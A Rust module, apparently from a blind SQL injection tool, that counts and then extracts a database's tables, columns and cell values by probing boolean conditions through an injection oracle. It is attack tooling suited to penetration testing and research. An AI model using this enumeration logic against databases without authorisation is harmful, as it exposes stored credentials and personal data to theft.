//! Count-then-fetch enumeration of tables, columns and rows

use crate::reporting::{Event, Sink};
use crate::sqli::dialect::Dialect;
use crate::sqli::extract::extract_string;
use crate::sqli::oracle::Oracle;
use crate::sqli::queries;
use serde::Serialize;

/// Result of a bounded count
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
pub enum Count {
    Found(usize),
    /// The ceiling was reached without a match
    Undetermined,
}

impl Count {
    /// Numeric value, zero when undetermined
    pub fn value(self) -> usize {
        match self {
            Count::Found(n) => n,
            Count::Undetermined => 0,
        }
    }

    pub fn is_found(self) -> bool {
        matches!(self, Count::Found(_))
    }
}

/// What is being enumerated, and where it lives
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Scope<'a> {
    Tables {
        database: &'a str,
    },
    Columns {
        database: &'a str,
        table: &'a str,
    },
    /// Rows of `table`, projected on `column` when fetching.
    /// Counting ignores the column.
    Rows {
        database: &'a str,
        table: &'a str,
        column: &'a str,
    },
}

impl Scope<'_> {
    pub fn label(&self) -> String {
        match self {
            Scope::Tables { .. } => "Table".to_string(),
            Scope::Columns { table, .. } => format!("Column in '{}'", table),
            Scope::Rows { table, .. } => format!("Row in '{}'", table),
        }
    }

    pub fn count_query(&self, dialect: Dialect) -> String {
        match *self {
            Scope::Tables { database } => queries::count_tables(database),
            Scope::Columns { database, table } => queries::count_columns(database, table),
            Scope::Rows {
                database, table, ..
            } => queries::count_rows(dialect, database, table),
        }
    }

    pub fn fetch_query(&self, dialect: Dialect, index: usize) -> String {
        match *self {
            Scope::Tables { database } => queries::table_name_at(dialect, database, index),
            Scope::Columns { database, table } => {
                queries::column_name_at(dialect, database, table, index)
            }
            Scope::Rows {
                database,
                table,
                column,
            } => queries::cell_at(dialect, database, table, column, index),
        }
    }
}

pub fn count_condition(count_query: &str, n: usize) -> String {
    format!("({})={}", count_query, n)
}

/// Linear probe of `(<query>)=n` for n in 1..=ceiling.
pub async fn count<O: Oracle + ?Sized>(oracle: &O, count_query: &str, ceiling: usize) -> Count {
    for n in 1..=ceiling {
        if oracle.probe(&count_condition(count_query, n)).await {
            return Count::Found(n);
        }
    }
    Count::Undetermined
}

pub async fn count_scope<O: Oracle + ?Sized>(
    oracle: &O,
    scope: &Scope<'_>,
    dialect: Dialect,
    ceiling: usize,
    sink: &dyn Sink,
) -> Count {
    let label = scope.label();
    let result = count(oracle, &scope.count_query(dialect), ceiling).await;

    match result {
        Count::Found(n) => sink.render(&Event::Count { what: label, count: n }),
        Count::Undetermined => {
            tracing::warn!("[ENUM] {} count exceeded ceiling of {}", label, ceiling);
            sink.render(&Event::warn(format!(
                "{} count not determined (exceeded {}).",
                label, ceiling
            )));
        }
    }

    result
}

/// Extracts the `index`-th (zero-based) entry of the scope.
pub async fn fetch_at<O: Oracle + ?Sized>(
    oracle: &O,
    scope: &Scope<'_>,
    dialect: Dialect,
    index: usize,
    max_length: usize,
    sink: &dyn Sink,
) -> String {
    let query = scope.fetch_query(dialect, index);
    tracing::debug!("[ENUM] {}", query);
    extract_string(oracle, &query, max_length, sink).await
}
